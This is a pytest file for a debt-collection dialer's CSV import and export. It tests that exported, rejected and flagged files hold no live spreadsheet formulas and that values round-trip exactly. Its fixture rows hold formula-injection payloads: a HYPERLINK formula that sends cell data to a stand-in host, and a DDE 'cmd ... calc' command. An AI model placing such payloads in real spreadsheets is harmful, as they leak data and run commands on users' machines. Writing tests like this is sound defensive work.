"""Every CSV callpact writes is safe to open in a spreadsheet, and every file it reads is read right.

A debtor id like ``=HYPERLINK(...)`` must not become a live formula in an export, a rejects
file or a flags file; the importer must still give back the exact values when such a file is
imported again; and UTF-16 without a BOM and huge cells must be read, not refused or lost.
"""

from __future__ import annotations

import csv
import re
import time
from decimal import Decimal
from pathlib import Path

import pytest

from dialer.campaign import parse_campaign
from dialer.cli import main
from dialer.core.virtual_time import real_io, run_virtual
from dialer.debtor_list import Accepted, ImportOptions, Rejected, RejectsWriter, read_debtors
from dialer.engine import CampaignEngine, Clock
from dialer.simulation.always_open import always_open_campaign
from dialer.store.redis_store import Store
from sip.distributions import Fixed
from sip.simulated import NetworkProfile, SimulatedAgents, SimulatedNetwork

HEADER = ["debtor_id", "name", "phone", "phone2", "amount_due", "note"]
HOSTILE_ROWS = [
    ['=HYPERLINK("http://evil.invalid/?x="&C2,"Klik")', "=1+1 Jansen", "+31612345678", "=cmd()", "45.20",
     "@SUM(A1:A9)"],
    ["+cmd|' /C calc'!A0", "-Piet", "+31 6 1234 5679", "", "10,00", "\t=tab"],
    ["@evil", "'=already quoted", "0612345680", "", "12.50", "\r=cr"],
    ["''+quoted", "Anna", "06-12345681", "", "99.95", "-"],   # the id '+quoted, escaped as callpact writes it
]
# Rejected for its negative amount; every other cell is hostile too.
BAD_ROW = ["-X7", "=Els Kok", "+31612345682", "", "-12,50", "+cmd|' /C calc'!A0"]
# What a spreadsheet reads as a number at most: a sign, then only digits, spaces and . , ( ) / - *
PLAIN_NUMBER = re.compile(r"[+-][\d .,()/*-]*\d[\d .,()/*-]*")


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return path


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def live_formulas(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run: starting with = + - @ tab or CR, and not a plain number."""
    return [cell for row in rows for cell in row
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not PLAIN_NUMBER.fullmatch(cell)]


def callpact(redis_url: str, capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["--redis-url", redis_url, *map(str, args)])
    out, err = capsys.readouterr()
    return code, out + err


def dial_everyone(redis_url: str, campaign: str, debtors: int) -> None:
    """Run the engine on a simulated network until each debtor has had an attempt."""
    async def body() -> None:
        store = await Store.open(redis_url, io_guard=real_io)
        try:
            cfg = parse_campaign(await store.campaign_text(campaign), "test campaign")
            profile = NetworkProfile(answer_prob=0.0, machine_share=0.0, busy_prob=0.0, failed_prob=0.0,
                                     setup_s=Fixed(0.0), ring_s=Fixed(5.0), amd_s=Fixed(0.0))
            net = SimulatedNetwork(profile, SimulatedAgents(1, Fixed(10.0), Fixed(0.0), seed=1), seed=1)
            await net.start()
            await store.set_state(campaign, "running")
            engine = CampaignEngine(store, net, cfg, clock=Clock(time.time() + 60))
            await engine.run(until_epoch=time.time() + 600)
            assert (await store.stats(campaign))["attempts"] >= debtors
        finally:
            await store.close()
    run_virtual(body())


def import_hostile_list(redis_url: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> Path:
    """Campaign nov loaded and the hostile list imported (4 stored, BAD_ROW rejected); the list's path."""
    campaign = tmp_path / "nov.yaml"
    campaign.write_text(always_open_campaign("nov", dial_mode="progressive", caller_id="+31202101234",
                                             ring_timeout="20s"), encoding="utf-8")
    assert callpact(redis_url, capsys, "campaign", "load", campaign)[0] == 0
    debtors = write_csv(tmp_path / "debtors.csv", [HEADER, *HOSTILE_ROWS, BAD_ROW])
    code, out = callpact(redis_url, capsys, "import", debtors, "--campaign", "nov")
    assert code == 2 and "4 debtors stored" in out, out
    return debtors


def test_rejects_and_flags_hold_no_live_formula_and_a_fixed_rejects_file_gives_back_the_row(
        redis_url: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    debtors = import_hostile_list(redis_url, capsys, tmp_path)

    # The rejects file: nothing a spreadsheet runs, the row's values (amount and phone too) as written.
    rejects = debtors.with_name("debtors.csv.rejects.csv")
    rejected_rows = read_csv(rejects)
    assert live_formulas(rejected_rows) == []
    assert rejected_rows[1][2:5] == ["+31612345682", "", "-12,50"]      # numbers stay numbers
    flags = debtors.with_name("debtors.csv.flags.csv")
    assert "=cmd()" in flags.read_text(encoding="utf-8") and live_formulas(read_csv(flags)) == []

    # Fixed (the amount) and imported again: exactly the values of the first file.
    fixed_rows = [rejected_rows[0], [*rejected_rows[1][:4], "12,50", *rejected_rows[1][5:]]]
    fixed = write_csv(tmp_path / "fixed.csv", fixed_rows)
    with read_debtors(fixed, ImportOptions()) as rows:
        [item] = list(rows)
    assert isinstance(item, Accepted), item
    assert (item.debtor.debtor_id, item.debtor.name, item.debtor.custom["note"]) == \
        (BAD_ROW[0], BAD_ROW[1], BAD_ROW[5])
    assert item.debtor.phones == ("+31612345682",)
    code, out = callpact(redis_url, capsys, "import", fixed, "--campaign", "nov")
    assert code == 0 and "1 debtors stored (1 new" in out, out


def test_the_export_holds_no_live_formula_and_its_debtor_ids_read_back_as_stored(
        redis_url: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    import_hostile_list(redis_url, capsys, tmp_path)
    dial_everyone(redis_url, "nov", 4)
    export = tmp_path / "attempts.csv"
    assert callpact(redis_url, capsys, "export", "nov", "--out", export)[0] == 0
    exported = read_csv(export)
    assert live_formulas(exported) == []
    ids = [row[exported[0].index("debtor_id")] for row in exported[1:]]
    phones = {row[exported[0].index("phone")] for row in exported[1:]}
    assert "+31612345678" in phones                                       # E.164 as it was, unescaped
    again = write_csv(tmp_path / "again.csv", [["debtor_id", "name", "phone", "amount_due"]] + [
        [debtor_id, "X", f"+316{20000000 + i}", "1.00"] for i, debtor_id in enumerate(ids)])
    with read_debtors(again, ImportOptions()) as rows:
        read_back = {item.debtor.debtor_id for item in rows if isinstance(item, Accepted)}
    assert read_back == {HOSTILE_ROWS[0][0], "+cmd|' /C calc'!A0", "@evil", "'+quoted"}


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_bom_is_read_like_any_other_text(tmp_path: Path, codec: str) -> None:
    text = "debtor_id\tname\tphone\tamount_due\r\nD1\tZoë Çelik\t06 12345678\t45,20\r\n"
    path = tmp_path / "unicode.txt"
    path.write_bytes(text.encode(codec))
    with read_debtors(path, ImportOptions()) as rows:
        [item] = list(rows)
    assert isinstance(item, Accepted), item
    assert (item.debtor.debtor_id, item.debtor.name) == ("D1", "Zoë Çelik")
    assert item.debtor.phones == ("+31612345678",) and item.debtor.amount_due == Decimal("45.20")


def test_a_rejected_row_with_a_10_mb_cell_keeps_the_cell_in_the_rejects_file(tmp_path: Path) -> None:
    huge = "x" * 10_000_000
    path = write_csv(tmp_path / "big.csv", [["debtor_id", "name", "phone", "amount_due", "note"],
                                            ["D1", "Jan", "0612345678", "nul", huge]])
    rejects = tmp_path / "big.csv.rejects.csv"
    with read_debtors(path, ImportOptions()) as rows, RejectsWriter(rejects) as writer:
        items = list(rows)
        writer.write_all(items)
    assert [(type(item), item.column) for item in items] == [(Rejected, "amount_due")]
    limit = csv.field_size_limit(2**31 - 1)
    try:
        [header, row] = read_csv(rejects)
    finally:
        csv.field_size_limit(limit)
    assert dict(zip(header, row, strict=True))["note"] == huge
